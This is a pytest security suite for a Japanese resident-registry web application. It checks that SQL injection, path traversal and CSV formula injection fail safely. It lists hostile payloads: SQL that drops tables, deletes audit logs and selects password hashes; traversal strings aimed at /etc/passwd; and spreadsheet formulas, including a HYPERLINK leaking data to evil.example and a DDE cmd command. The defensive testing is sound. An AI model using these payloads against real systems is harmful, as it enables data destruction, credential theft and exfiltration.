"""Injection attempts fail safely: SQL in every query parameter, path traversal, CSV formula injection.

Parameters and routes are enumerated from the application (OpenAPI and the route table), so a new
endpoint is covered without touching this file.
"""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from fastapi.routing import APIRoute

from kikan.adapters.db.tables.juki import juki_history, juki_household, juki_resident
from tests.e2e.juki.conftest import person, seed_household
from tests.e2e.test_route_permissions import all_routes
from tests.security.sec_fixtures import bearer, cookie_client, path_of

SQL = [
    "' OR '1'='1", "' OR 1=1 --", "1; DROP TABLE juki_history; --", "%", "_", "%' OR '%'='", "\\", "*",
    "' UNION SELECT login, password_hash FROM staff_account --", "アオキ' OR 'a'='a", "\x00", "1\x00' OR 1=1",
    "'); DELETE FROM audit_log; --", "\" OR \"\"=\"", "\u3000", "・",
]  # fmt: skip
NO_MATCH = "zzzqqq"
TRAVERSAL = ["../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "....//....//etc/passwd", "..\\..\\pyproject.toml",
             "/etc/passwd", "%2e%2e%2f%2e%2e%2fpyproject.toml", "..%00/", "%00"]  # fmt: skip
FILE_MARKERS = ("root:x:0:0", "[tool.ruff]", "[project]", "BEGIN PRIVATE KEY")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _default(schema: dict[str, Any]) -> Any:
    s = schema.get("anyOf", [schema])[0]
    if "enum" in s:
        return s["enum"][0]
    return {"integer": 1, "number": 1, "boolean": "false"}.get(s.get("type", ""), "2024-04-01" if
                                                                s.get("format") == "date" else "1")  # fmt: skip


def _count(r: Any) -> int:
    try:
        body = r.json()
    except ValueError:
        return 0
    if isinstance(body, list):
        return len(body)
    if isinstance(body, dict):
        return sum(
            len(v) for k, v in body.items() if isinstance(v, list) and k in ("items", "rows", "records")
        )
    return 0


def query_operations(app: Any) -> list[tuple[str, str, list[dict[str, Any]]]]:
    out = []
    for path, item in app.openapi()["paths"].items():
        for method, op in item.items():
            params = [p for p in op.get("parameters", []) if p["in"] in ("query", "path")]
            if method == "get" and any(p["in"] == "query" for p in params):
                out.append((method, path, params))
    return out


def test_sql_injection_in_every_query_parameter_fails_safely(app, world, owner_engine):
    c = bearer(app, world.a_token)
    ids = {"addressee_no": world.a_residents[0], "household_no": world.a_households[0]}
    with owner_engine.connect() as conn:
        history_before = conn.execute(sa.select(sa.func.count()).select_from(juki_history)).scalar_one()
    problems, tried = [], 0
    for _method, path, params in query_operations(app):
        url = path_of(path, ids)
        required = {
            p["name"]: _default(p.get("schema", {}))
            for p in params
            if p["in"] == "query" and p.get("required")
        }
        for p in (p for p in params if p["in"] == "query"):
            base = c.get(url, params={**required, p["name"]: NO_MATCH})
            for payload in SQL:
                r = c.get(url, params={**required, p["name"]: payload})
                tried += 1
                if r.status_code >= 500:
                    problems.append(f"GET {url} {p['name']}={payload!r} -> {r.status_code}")
                elif r.status_code == 200 and base.status_code == 200 and _count(r) > _count(base):
                    problems.append(f"GET {url} {p['name']}={payload!r}: {_count(r)} rows > {_count(base)}")
                if world.b in r.text or "$argon2" in r.text:
                    problems.append(f"GET {url} {p['name']}={payload!r}: leaked")
    with owner_engine.connect() as conn:
        assert (
            conn.execute(sa.select(sa.func.count()).select_from(juki_history)).scalar_one() >= history_before
        )
    assert tried > 300 and not problems, "\n".join(problems)


def test_sql_injection_in_the_staff_search_screens_fails_safely(app, world):
    from kikan.adapters.web.juki.search import TEXT_FIELDS

    c = cookie_client(app, world.a_login)
    problems = []
    screens = [("/juki", TEXT_FIELDS, {"searched": "1"}), ("/audit", ("actor", "target_id", "since", "until"), {}),
               ("/applications", ("status", "form_id", "since", "until"), {})]  # fmt: skip
    for url, fields, extra in screens:
        for name in fields:
            for payload in SQL:
                r = c.get(url, params={**extra, name: payload})
                if r.status_code >= 500:
                    problems.append(f"GET {url} {name}={payload!r} -> {r.status_code}")
                elif url == "/juki" and any(no in r.text for no in world.a_residents):
                    problems.append(f"GET {url} {name}={payload!r}: rows found")
    assert not problems, "\n".join(problems)


def test_path_traversal_in_every_path_parameter_fails_safely(app, world):
    c = cookie_client(app, world.a_login)
    problems, tried = [], 0
    for _, route in all_routes(app.routes):
        if not isinstance(route, APIRoute) or "{" not in route.path:
            continue
        for method in sorted(route.methods & {"GET", "POST"}):
            for payload in TRAVERSAL:
                url = route.path
                for name in route.param_convertors:
                    url = url.replace(
                        "{" + name + "}", payload if "%" in payload else quote(payload, safe=""), 1
                    )
                    url = url.replace("{" + name + ":path}", payload, 1)
                r = c.request(method, path_of(url, {}), json={}, follow_redirects=False)
                tried += 1
                if r.status_code >= 500 or any(m in r.text for m in FILE_MARKERS):
                    problems.append(f"{method} {url} -> {r.status_code} {r.text[:100]!r}")
    for payload in ("../pyproject.toml", "..%2f..%2f..%2fpyproject.toml", "%2e%2e/%2e%2e/pyproject.toml",
                    "../../../../etc/passwd", "..%5c..%5cpyproject.toml"):  # fmt: skip
        r = c.get("/static/" + payload)
        tried += 1
        if r.status_code >= 500 or any(m in r.text for m in FILE_MARKERS):
            problems.append(f"GET /static/{payload} -> {r.status_code}")
    assert tried > 100 and not problems, "\n".join(problems)


def test_audit_function_filter_treats_wildcards_literally(app, world):
    c = bearer(app, world.a_token)
    assert c.get("/api/v1/audit", params={"function": "zzz"}).json() == []
    assert c.get("/api/v1/audit", params={"function": "%"}).json() == []


# --- CSV formula injection ------------------------------------------------------------------------


def _cells(data: bytes, encoding: str = "utf-8-sig") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(encoding))) for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would evaluate. Plain negative integers (counts) are data, not formulas."""
    return [x for x in cells if x.startswith(DANGEROUS) and not x.lstrip("-").isdigit()]


@pytest.fixture
def formula_tenant(db, tenant_id, owner_engine, mynumber_env):  # type: ignore[no-untyped-def]
    """A household whose stored address and names begin with formula characters (legacy migrated data
    is not validated like an entry screen: the export must defend itself)."""
    r = seed_household(db, tenant_id, person(), address="東京都千代田区松町１番地")
    h, p = juki_history.c, juki_resident.c
    with owner_engine.begin() as conn:
        conn.execute(sa.update(juki_history).where(h.tenant_id == tenant_id).values(
            address='=HYPERLINK("http://evil.example/?"&A1,"x")', katagaki="+1-1", family_name="@SUM(1+1)",
            given_name="-2+3", town_code="=1+1", address_key="=hyperlink"))  # fmt: skip
        conn.execute(sa.update(juki_resident).where(p.tenant_id == tenant_id).values(town_code="=1+1"))
        conn.execute(sa.update(juki_household).where(juki_household.c.tenant_id == tenant_id).values(
            address="=HYPERLINK(1)", katagaki="@x", town_code="=1+1"))  # fmt: skip
    return tenant_id, r


def test_linkage_csv_export_neutralises_formula_cells(app, db, formula_tenant):
    from tests.security.sec_fixtures import token_for

    tenant, _ = formula_tenant
    c = bearer(app, token_for(db, tenant, ["tax_clerk"])[1])
    for ds in ("juki.residents", "juki.households"):
        r = c.get(f"/api/v1/linkage/{ds}/export", params={"mode": "whole"})
        assert r.status_code == 200, r.text[:300]
        cells = _cells(r.content, "utf-8")
        assert any(x.startswith("'=HYPERLINK") for x in cells), (ds, cells)
        assert not _unsafe(cells), (ds, _unsafe(cells))


def test_statistics_csv_neutralises_formula_cells(app, db, formula_tenant):
    from tests.security.sec_fixtures import token_for

    tenant, _ = formula_tenant
    c = bearer(app, token_for(db, tenant, ["registry_clerk"])[1])
    r = c.get("/api/v1/juki/stats/population.csv", params={"by": "town", "on": "2024-04-10"})
    assert r.status_code == 200
    cells = _cells(r.content)
    assert any("HYPERLINK" in x or "1+1" in x for x in cells), cells
    assert not _unsafe(cells), _unsafe(cells)


def test_euc_and_linkage_csv_writers_neutralise_every_dangerous_first_character():
    from kikan.euc.csv_out import to_csv
    from kikan.linkage.csvout import CsvEncoder
    from kikan.linkage.datasets import FieldDef

    values = [ch + "1+1" for ch in DANGEROUS] + ["=cmd|' /C calc'!A0", "@SUM(A1)", "安全", ""]
    euc = _cells(to_csv(["v"], [[v] for v in values]).data)
    assert not _unsafe(euc) and "'=cmd|' /C calc'!A0" in euc
    enc = CsvEncoder([FieldDef("v", "値", "string")], header="none")
    linkage = _cells(enc.rows([(str(i), {"v": v}) for i, v in enumerate(values)]), "utf-8")
    assert not _unsafe(linkage) and "安全" in linkage
